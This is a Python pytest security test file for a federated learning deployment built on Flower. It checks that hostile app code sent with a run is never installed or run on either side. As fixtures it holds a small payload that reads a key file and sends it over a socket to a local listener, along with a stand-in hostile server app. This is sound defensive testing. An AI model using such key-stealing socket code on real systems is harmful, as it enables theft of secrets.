"""S21 (threat T15): code that a run brings is installed and run by neither side, whoever sent it.

Flower sends a data owner whatever app a run has. Here a hostile one reads a key file, opens a socket and raises what it
read. It never starts, so there is nothing to contain: not a byte of it is written, and the server hears one constant.

What these tests cannot show is the second line, for code that got in some other way: a socket refused with EPERM needs
a network namespace or a filter of the system's, and so root. ``deploy/`` has it: the trainer's unit has systemd's
``IPAddressDeny=any`` and may talk to this machine alone, and network policies of Kubernetes deny all but the model
owner's two ports. ``tests/deploy`` holds them to it. The long ones:
``pytest -m slow tests/attacks/test_app_code_s21.py``.
"""

import json
import os
import signal
import socket
import subprocess
import sys
from collections.abc import Iterator, Mapping
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from pathlib import Path

import pytest
from flwr.cli.build import build_fab_from_files

from fl_server.deployment import Deployment, read_deployment
from fl_server.superlink import SuperLink, wait_until_healthy, write_connection
from scaleot_core.bundle.key_files import make_secret
from scaleot_core.flower_app import APP, APP_FILE
from scaleot_core.supervision import child_environment, part_home
from tests.support.deployments import build_deployment
from tests.support.running import wait_for

CANARY = "canary-of-hostile-code-"
HOSTILE_APP = APP.replace("fl_server.server_app:app", "evil:app").replace("fl_clients.client_app:app", "evil:app")
GUARDED = """
import importlib, json, sys
from pathlib import Path
guard, runtime, cli, command, bundle = sys.argv[1:]
runtime, cli = importlib.import_module(runtime), importlib.import_module(cli)

def instead():
    try:
        runtime.install_from_fab(Path(bundle).read_bytes(), skip_prompt=True)
    except Exception as error:
        print(json.dumps(f"{type(error).__name__}: {error}"))
    else:
        print(json.dumps("installed"))

setattr(cli, command, instead)
importlib.import_module(guard).main()
"""
SIDES = {
    "server": ("fl_server.app_guard", "flwr.superlink.runtime.run_serverapp", "flwr.superlink.cli.flwr_serverapp"),
    "client": ("fl_clients.app_guard", "flwr.supernode.runtime.run_clientapp", "flwr.supernode.cli.flwr_clientapp"),
}


@dataclass(frozen=True)
class Loot:
    """What hostile code is after, and where it would leave a mark and be heard."""

    mark: Path
    key: Path
    port: int

    @property
    def code(self) -> str:
        return (
            "import pathlib, socket\napp = None\n"
            f"pathlib.Path({str(self.mark)!r}).touch()\n"
            f"key = pathlib.Path({str(self.key)!r}).read_text()\n"
            f"with socket.create_connection(('127.0.0.1', {self.port})) as line:\n"
            "    line.sendall(key.encode())\n"
            f"raise ValueError({CANARY!r} + key)\n"
        )

    @property
    def is_taken(self) -> bool:
        return self.mark.exists()


@pytest.fixture
def loot(tmp_path: Path) -> Iterator[tuple[Loot, socket.socket]]:
    """A key file of nobody's and a port that nobody should call."""
    key = tmp_path / "a.key"
    key.write_text("secret")
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(0.1)
        yield Loot(tmp_path / "ran", key, listener.getsockname()[1]), listener


def was_called(listener: socket.socket) -> bool:
    try:
        listener.accept()[0].close()
    except TimeoutError:
        return False
    return True


def test_s21_the_hostile_code_does_what_it_says_where_it_is_run(loot: tuple[Loot, socket.socket]) -> None:
    its, listener = loot
    done = subprocess.run([sys.executable, "-c", its.code], capture_output=True, text=True, check=False)
    assert its.is_taken and was_called(listener)
    assert f"{CANARY}secret" in done.stderr


@pytest.mark.parametrize("side", SIDES)
@pytest.mark.parametrize("is_hostile", [True, False])
def test_s21_the_installer_of_either_side_takes_our_app_alone(
    side: str, is_hostile: bool, tmp_path: Path, loot: tuple[Loot, socket.socket]
) -> None:
    its, listener = loot
    bundle = tmp_path / "app.fab"
    files = {APP_FILE: APP.encode()}
    if is_hostile:
        files = {APP_FILE: HOSTILE_APP.encode(), "evil.py": its.code.encode()}
    bundle.write_bytes(build_fab_from_files(files)[0])
    guard, runtime, cli = SIDES[side]
    command = [sys.executable, "-c", GUARDED, guard, runtime, cli, cli.rpartition(".")[2], str(bundle)]
    home = tmp_path / "home"
    done = subprocess.run(command, env=child_environment(home), capture_output=True, text=True, check=True)
    said = json.loads(done.stdout.splitlines()[-1])
    if is_hostile:
        assert said.startswith("VerificationError: expected the installed app")
        assert not list(home.rglob("evil.py"))
    else:
        assert said == "installed"
    assert not its.is_taken and not was_called(listener)
    assert CANARY not in done.stdout + done.stderr


@pytest.fixture
def server(tmp_path: Path) -> Iterator[Deployment]:
    deployment = read_deployment(build_deployment(tmp_path).owner_home)
    command = [str(Path(sys.executable).parent / "scaleot"), "serve", str(deployment.home), "--part"]
    parts = [subprocess.Popen([*command, part], start_new_session=True) for part in ("superlink", "server-app")]
    try:
        assert wait_until_healthy(deployment.superlink.port, deployment.tls.authority)
        yield deployment
    finally:
        for part in parts:
            part.kill()
            part.wait()


@pytest.mark.slow
def test_s21_who_reaches_the_control_port_cannot_have_code_run_there(
    server: Deployment, tmp_path: Path, loot: tuple[Loot, socket.socket]
) -> None:
    its, listener = loot
    app, folder = tmp_path / "app", part_home(server.state, "rounds")
    app.mkdir()
    (app / APP_FILE).write_text(HOSTILE_APP)
    (app / "evil.py").write_text(its.code)
    write_connection(folder, server.superlink.port, server.tls.authority)
    superlink = SuperLink(child_environment(folder), folder)
    run_id = superlink.submit(app)
    wait_for(lambda: superlink.status(run_id).startswith("finished"), 120, "the end of the hostile run")
    assert superlink.status(run_id).startswith("finished:failed")
    assert "app.unknown" in superlink.log(run_id)
    assert not its.is_taken and not was_called(listener)
    assert not list(server.state.rglob("evil.py"))


HOSTILE_SERVER = """
import json, pathlib, time
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.serverapp import ServerApp
app = ServerApp()

@app.main()
def main(grid, context):
    while not (nodes := list(grid.get_node_ids())):
        time.sleep(1)
    asked = [Message(RecordDict({{"asked": ConfigRecord({{"of": 1}})}}), nodes[0], "query")]
    heard = [str(reply.error) if reply.has_error() else str(reply.content) for reply in grid.send_and_receive(asked)]
    pathlib.Path({heard!r}).write_text(json.dumps(heard))
"""


@contextmanager
def processes(*commands: tuple[str, ...], environment: Mapping[str, str]) -> Iterator[None]:
    started = [subprocess.Popen(command, start_new_session=True, env=dict(environment)) for command in commands]
    try:
        yield
    finally:
        for process in started:
            with suppress(ProcessLookupError):
                os.killpg(process.pid, signal.SIGKILL)
            process.wait()


@pytest.mark.slow
def test_s21_a_hostile_server_learns_from_a_data_owner_that_its_app_is_unknown_and_nothing_else(
    tmp_path: Path, loot: tuple[Loot, socket.socket]
) -> None:
    """The server runs Flower's own SuperExec, without our guard, and sends its nodes an app of its own."""
    deployed = build_deployment(tmp_path / "federation")
    deployment, own = read_deployment(deployed.owner_home), deployed.data_owner_homes[0]
    make_secret(deployment.secret)
    its, listener = Loot(loot[0].mark, own / "signing.key", loot[0].port), loot[1]
    app, heard, folder = tmp_path / "app", tmp_path / "heard.json", part_home(deployment.state, "hostile")
    app.mkdir()
    (app / APP_FILE).write_text(HOSTILE_APP.replace('serverapp = "evil:app"', 'serverapp = "server:app"'))
    (app / "server.py").write_text(HOSTILE_SERVER.format(heard=str(heard)))
    (app / "evil.py").write_text(its.code)
    scaleot, superexec = (str(Path(sys.executable).parent / name) for name in ("scaleot", "flower-superexec"))
    servers = [(scaleot, "serve", str(deployment.home), "--part", part) for part in ("superlink", "edge")]
    owners = [(scaleot, "join", str(own), "--part", part) for part in ("node", "trainer")]
    unguarded = (superexec, "--runtime-api-address", str(deployment.superlink))
    unguarded += ("--root-certificates", str(deployment.tls.authority))
    unguarded += ("--superexec-auth-secret-file", str(deployment.secret))
    environment = child_environment(folder)
    with processes(*servers, unguarded, environment=environment):
        assert wait_until_healthy(deployment.superlink.port, deployment.tls.authority)
        write_connection(folder, deployment.superlink.port, deployment.tls.authority)
        superlink = SuperLink(environment, folder)
        superlink.register(own / "node.pub")
        with processes(*owners, environment=environment):
            superlink.submit(app)
            wait_for(heard.exists, 240, "the data owner's answer")
    (said,) = json.loads(heard.read_text())
    assert "app.unknown" in said
    assert CANARY not in said
    assert not its.is_taken and not was_called(listener)
    assert not list(own.rglob("evil.py"))
    assert not [path for path in own.rglob("*") if path.is_file() and CANARY.encode() in path.read_bytes()]
